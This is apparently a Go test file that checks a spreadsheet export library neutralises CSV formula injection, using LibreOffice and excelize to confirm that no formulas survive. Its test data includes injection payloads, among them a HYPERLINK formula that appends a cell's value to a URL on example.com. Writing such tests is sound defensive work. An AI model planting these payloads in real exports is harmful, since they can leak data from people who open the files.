package sheet

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulaCells are cells a spreadsheet would run as formulas if written
// raw, and cells around the quote that neutralises them. (Not a carriage
// return first, which OWASP lists: encoding/csv does not keep a lone CR,
// and no stored text holds one, data.CheckText.)
var formulaCells = []string{
	"=1+1", `=HYPERLINK("http://example.com/?"&A2,"x")`, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1",
	"'abc", "'=1+1", "''=1+1", "'", "''", "a=1+1", "张三", "-", "=",
}

// Found by the fault campaign (#14): a CSV export wrote a cell beginning
// with =, +, - or @ raw. Written and read back, every cell is what it was.
func TestCSVRoundTripIsLossless(t *testing.T) {
	var b bytes.Buffer
	if err := Write("x.csv", &b, []string{"=header", "b"}, [][]string{formulaCells}); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(b.String(), "\r\n")[1:] {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimLeft(cell, `"`); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("a cell begins with %q: %q", c[0], cell)
			}
		}
	}
	tab, err := Read("x.csv", &b)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(tab.Header, "|"); got != "=header|b" {
		t.Errorf("header %q", got)
	}
	if len(tab.Rows) != 1 || len(tab.Rows[0]) != len(formulaCells) {
		t.Fatalf("rows %q", tab.Rows)
	}
	for i, want := range formulaCells {
		if got := tab.Rows[0][i]; got != want {
			t.Errorf("cell %d: %q read back as %q", i, want, got)
		}
	}
}

// convert opens a file in LibreOffice (headless) and saves it as .xlsx,
// as a person opening the export in a spreadsheet would see it.
func convert(t *testing.T, path string) string {
	t.Helper()
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("soffice is not installed (make test-deps installs libreoffice-calc-nogui)")
	}
	dir := t.TempDir()
	// Its own profile: two conversions at once would share one otherwise.
	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
		"--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", dir, path)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	out := filepath.Join(dir, strings.TrimSuffix(filepath.Base(path), filepath.Ext(path))+".xlsx")
	if _, err := os.Stat(out); err != nil {
		t.Fatalf("soffice wrote no %s: %v", out, err)
	}
	return out
}

// formulas are the cells of an .xlsx that hold a formula, from its XML
// (a <f> element), and the values of the first sheet.
func formulas(t *testing.T, path string) (int, [][]string) {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	n := 0
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/") {
			r, _ := f.Open()
			b, _ := io.ReadAll(r)
			r.Close()
			n += bytes.Count(b, []byte("<f>")) + bytes.Count(b, []byte("<f "))
		}
	}
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows(x.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	return n, rows
}

// The CSV opened in LibreOffice runs no formula: each cell is text. (The
// same file with the cells raw has a formula for each, which is what the
// check would see without neutralize.)
func TestCSVOpensWithoutFormulas(t *testing.T) {
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "roster.csv")
	var b bytes.Buffer
	if err := Write(csvPath, &b, []string{"a"}, [][]string{{"=1+1"}, {"+1+1"}, {"-1+1"}, {"@SUM(1,1)"}, {`=HYPERLINK("http://example.com","x")`}, {"张三"}}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(csvPath, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	n, rows := formulas(t, convert(t, csvPath))
	if n != 0 {
		t.Errorf("LibreOffice found %d formulas in the CSV: %q", n, rows)
	}
	want := []string{"a", "'=1+1", "'+1+1", "'-1+1", "'@SUM(1,1)", `'=HYPERLINK("http://example.com","x")`, "张三"}
	for i, w := range want {
		if i >= len(rows) || len(rows[i]) == 0 || rows[i][0] != w {
			t.Errorf("row %d: %q, want %q shown as text", i+1, rows, w)
			break
		}
	}

	// The check itself: the same cells written raw are formulas to it.
	raw := filepath.Join(dir, "raw.csv")
	if err := os.WriteFile(raw, []byte("a\r\n=1+1\r\n=SUM(1;1)\r\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if n, rows := formulas(t, convert(t, raw)); n != 2 {
		t.Errorf("raw cells: %d formulas (%q), want 2: the check does not see formulas", n, rows)
	}
}

// An .xlsx needs no quote: excelize writes a string as a string cell,
// never a formula, and reads it back as it was.
func TestXLSXHasNoFormulas(t *testing.T) {
	path := filepath.Join(t.TempDir(), "roster.xlsx")
	var b bytes.Buffer
	if err := Write(path, &b, []string{"=header"}, [][]string{{"=1+1"}, {"@SUM(1,1)"}, {"'=1+1"}}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	n, rows := formulas(t, path)
	if n != 0 {
		t.Errorf("%d formulas in the .xlsx", n)
	}
	tab, err := Read(path, bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(tab.Header, "|") != "=header" || len(tab.Rows) != 3 || tab.Rows[0][0] != "=1+1" || tab.Rows[2][0] != "'=1+1" {
		t.Errorf("read back %q %q (excelize: %q)", tab.Header, tab.Rows, rows)
	}
	if n, rows := formulas(t, convert(t, path)); n != 0 {
		t.Errorf("LibreOffice made %d formulas of the .xlsx: %q", n, rows)
	}
}
